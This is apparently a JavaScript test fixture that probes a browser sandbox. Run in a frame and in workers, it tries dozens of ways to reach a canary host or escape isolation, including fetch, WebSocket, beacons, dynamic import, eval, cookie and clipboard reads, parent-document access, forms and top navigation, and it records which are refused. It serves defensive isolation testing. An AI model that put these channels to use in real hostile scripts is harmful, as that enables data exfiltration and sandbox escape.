// Every way out of the sandbox that a script can try. The test puts `const CANARY = "host:port"` before it and runs it in the
// frame, in the frame's worker and in a worker of that worker. Each attempt throws or rejects when it is refused, returns a
// word when it got somewhere, and returns "" when the platform does not say: then only the canary knows.
"use strict";
const HTTP = `http://${CANARY}`;
const isFrame = typeof document === "object";

/** Settles with the first of these events of a target. */
const hear = (target, good, bad) =>
  new Promise((resolve, reject) => {
    for (const name of good) target.addEventListener(name, () => resolve(name));
    for (const name of bad) target.addEventListener(name, () => reject(new Error(name)));
  });

const insert = (tag, facts) => {
  const element = Object.assign(document.createElement(tag), facts);
  const outcome = hear(element, ["load"], ["error"]);
  document.documentElement.append(element);
  return outcome;
};

const ATTEMPTS = {
  fetch: async () => (await fetch(`${HTTP}/fetch`)).status,
  "fetch without CORS": async () => (await fetch(`${HTTP}/no-cors`, { mode: "no-cors", method: "POST", body: "x" })).type,
  "fetch with keepalive": async () => (await fetch(`${HTTP}/keepalive`, { keepalive: true, mode: "no-cors" })).type,
  "fetch of its own server": async () => (await fetch(new URL("/own", SERVED_BY), { credentials: "include" })).status,
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    const outcome = hear(request, ["load"], ["error", "abort"]);
    request.open("POST", `${HTTP}/xhr`);
    request.send("x");
    return outcome;
  },
  "synchronous XMLHttpRequest": () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${HTTP}/xhr-sync`, false);
    request.send();
    return request.status;
  },
  WebSocket: () => hear(new WebSocket(`ws://${CANARY}/ws`), ["open"], ["error", "close"]),
  WebSocketStream: () => new WebSocketStream(`ws://${CANARY}/ws-stream`).opened.then(() => "open"),
  EventSource: () => hear(new EventSource(`${HTTP}/events`), ["open"], ["error"]),
  WebTransport: () => new WebTransport(`https://${CANARY}/transport`).ready.then(() => "ready"),
  "dynamic import": () => import(`${HTTP}/module.js`).then(() => "imported"),
  "dynamic import of a data address": () => import("data:text/javascript,export default 1").then(() => "imported"),
  "dynamic import of a blob": () =>
    import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" }))).then(() => "imported"),
  eval: () => (0, eval)("'evaluated'"),
  "new Function": () => new Function("return 'evaluated'")(),
  "the constructor of async functions": () => (async () => {}).constructor("return 'evaluated'")(),
  indexedDB: () => {
    const request = indexedDB.open("hoard");
    return hear(request, ["success"], ["error"]);
  },
  caches: () => caches.open("hoard").then(() => "opened"),
  "the origin's private files": () => navigator.storage.getDirectory().then(() => "opened"),
  "storage that lasts": () => navigator.storage.persist().then((granted) => (granted ? "granted" : Promise.reject(new Error("no")))),
  "web locks": () => navigator.locks.request("x", () => "locked"),
  notifications: () => {
    if (Notification.permission !== "granted") throw new Error(Notification.permission);
    return "granted";
  },
  "shared memory": () => new SharedArrayBuffer(8).byteLength,
};

const IN_FRAME = {
  sendBeacon: () => void navigator.sendBeacon(`${HTTP}/beacon`, "x") || "",
  localStorage: () => localStorage.setItem("a", "b") ?? "stored",
  sessionStorage: () => sessionStorage.setItem("a", "b") ?? "stored",
  "reading cookies": () => `read ${document.cookie}`,
  "writing cookies": () => (document.cookie = "a=b"),
  "the parent's document": () => parent.document.title,
  "the parent's address": () => parent.location.href,
  "the parent's storage": () => parent.localStorage.length,
  "the element around it": () => {
    if (frameElement === null) throw new Error("hidden");
    return "seen";
  },
  "an image": () => insert("img", { src: `${HTTP}/image.png` }),
  "a style sheet": () => insert("link", { rel: "stylesheet", href: `${HTTP}/style.css` }),
  "a preload": () => insert("link", { rel: "preload", as: "fetch", href: `${HTTP}/preload`, crossOrigin: "anonymous" }),
  "a module preload": () => insert("link", { rel: "modulepreload", href: `${HTTP}/preload.js` }),
  "a connection ahead of time": () => {
    document.documentElement.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: HTTP }));
    return "";
  },
  "a prefetch": () => insert("link", { rel: "prefetch", href: `${HTTP}/prefetch` }),
  "a peer connection": async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${CANARY}` }] });
    peer.createDataChannel("x");
    const gathered = new Promise((resolve) => (peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve("")));
    await peer.setLocalDescription();
    return gathered;
  },
  "a script": () => insert("script", { src: `${HTTP}/script.js` }),
  "an inline script": () => {
    document.documentElement.append(Object.assign(document.createElement("script"), { textContent: "globalThis.ran = 1" }));
    if (!("ran" in globalThis)) throw new Error("did not run");
    return "ran";
  },
  "an event handler": () => {
    const element = document.createElement("b");
    element.setAttribute("onclick", "globalThis.handled = 1");
    element.click();
    if (!("handled" in globalThis)) throw new Error("did not run");
    return "ran";
  },
  "a video": () => {
    const video = Object.assign(document.createElement("video"), { preload: "auto", src: `${HTTP}/video.mp4` });
    return hear(video, ["loadedmetadata"], ["error"]);
  },
  "a font": () => new FontFace("x", `url(${HTTP}/font.woff2)`).load().then(() => "loaded"),
  "a style's address": () => {
    const element = document.createElement("div");
    element.style.backgroundImage = `url(${HTTP}/background.png)`;
    document.documentElement.append(element);
    return "";
  },
  "an object": () => {
    const element = Object.assign(document.createElement("object"), { data: `${HTTP}/object` });
    const outcome = hear(element, ["load"], ["error"]);
    document.documentElement.append(element);
    return outcome;
  },
  // A frame that is refused fires `load` for the empty document that stands there instead.
  "a frame": () => insert("iframe", { src: `${HTTP}/frame` }).then(() => ""),
  "a frame from text": () =>
    insert("iframe", { srcdoc: `<script src="${HTTP}/srcdoc.js"><\/script><img src="${HTTP}/srcdoc.png">` }).then(() => ""),
  "a form": () => {
    const form = Object.assign(document.createElement("form"), { action: `${HTTP}/form`, method: "post", target: "_top" });
    document.documentElement.append(form);
    form.submit();
    return "";
  },
  "a link that is clicked": () => {
    const link = Object.assign(document.createElement("a"), { href: `${HTTP}/link`, target: "_blank", ping: `${HTTP}/ping` });
    document.documentElement.append(link);
    link.click();
    return "";
  },
  "a download": () => {
    const link = Object.assign(document.createElement("a"), { href: "data:text/plain,x", download: "x.txt" });
    document.documentElement.append(link);
    link.click();
    return "";
  },
  "a new window": () => {
    if (window.open(`${HTTP}/window`) === null) throw new Error("null");
    return "opened";
  },
  "the window at the top": () => (top.location = `${HTTP}/top`),
  "a dialog": () => {
    alert("hostile");
    return "";
  },
  "a service worker": () => navigator.serviceWorker.register("/own-worker.js").then(() => "registered"),
  "a shared worker": () => {
    const source = URL.createObjectURL(new Blob(["onconnect = ({ ports: [port] }) => port.postMessage(1)"]));
    const worker = new SharedWorker(source);
    const outcome = hear(worker.port, ["message"], []);
    worker.port.start();
    return Promise.race([outcome, hear(worker, [], ["error"])]);
  },
  "a worker from the canary": () => hear(new Worker(`${HTTP}/worker.js`), ["message"], ["error"]),
  "a worker from its own server": () => hear(new Worker(new URL("/own-worker.js", SERVED_BY)), ["message"], ["error"]),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "seen"),
  clipboard: () => navigator.clipboard.readText().then(() => "read"),
  "writing the clipboard": () => navigator.clipboard.writeText("hostile").then(() => "written"),
  position: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve("found"), reject)),
  "full screen": () => document.documentElement.requestFullscreen().then(() => "full"),
};

const IN_WORKER = {
  importScripts: () => importScripts(`${HTTP}/imported.js`) ?? "imported",
  "importScripts of a blob": () => importScripts(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))) ?? "imported",
  "importScripts of a data address": () => importScripts("data:text/javascript,1") ?? "imported",
  "a worker from the canary": () => hear(new Worker(`${HTTP}/worker.js`), ["message"], ["error"]),
};

/** Says on every channel that the page might listen on that it is here, and whether anything was heard there. */
const broadcast = () => new BroadcastChannel("page").postMessage("hostile");

/**
 * Runs the attempts one after the other, or those that are named: `{name: outcome}`. An attempt that never ends counts as one
 * that tells nothing.
 */
async function tryAll(only) {
  broadcast();
  const outcomes = {};
  for (const [name, attempt] of Object.entries({ ...ATTEMPTS, ...(isFrame ? IN_FRAME : IN_WORKER) })) {
    if (only && !only.includes(name)) continue;
    const end = new Promise((resolve) => setTimeout(resolve, 2000, ""));
    try {
      const said = await Promise.race([Promise.resolve(attempt()), end]);
      outcomes[name] = said === "" ? "silent" : `got through: ${said}`;
    } catch (error) {
      outcomes[name] = `refused: ${error?.message || error?.name || "no reason"}`;
    }
  }
  return outcomes;
}
